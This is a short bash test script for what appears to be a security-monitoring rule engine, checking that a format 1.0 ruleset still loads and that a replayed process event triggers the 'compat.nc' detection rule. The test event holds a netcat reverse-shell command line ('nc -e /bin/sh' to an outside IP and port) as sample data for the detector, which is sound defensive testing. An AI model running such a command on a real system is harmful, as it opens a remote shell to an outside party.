#!/bin/bash
# Older rulesets stay readable: testsuite/compat/rules-1.0.wtb was written by wtc 0.1.0
# (format 1.0, before the correlation opcode LOAD_CAPTURE and the fields ancestors.exec_id
# and session.id were appended). Its opset and schema hashes are those of a prefix of
# today's tables, so the daemon loads and runs it.
. "$(dirname "$0")/lib.sh"
need_jq
W="$WT_SRCDIR/testsuite/compat/rules-1.0.wtb"
"$WTC" dump "$W" >"$TMP/dump" 2>&1 && grep -q "format 1.0" "$TMP/dump" && pass "wtc dump reads a 1.0 ruleset" ||
	{ fail "wtc dump of a 1.0 ruleset"; cat "$TMP/dump"; }
printf '%s\n' '{"process_exec":{"process":{"exec_id":"e1","binary":"/usr/bin/nc","arguments":"-e /bin/sh 198.51.100.1 4444"}},"time":"2026-11-10T10:00:00Z"}' |
	"$WTD" --rules "$W" --replay - >"$TMP/out" 2>"$TMP/err"
[ "$(jq -r .rule "$TMP/out")" = compat.nc ] && pass "worktraced runs a 1.0 ruleset" || { fail "1.0 ruleset"; cat "$TMP/err"; }
finish
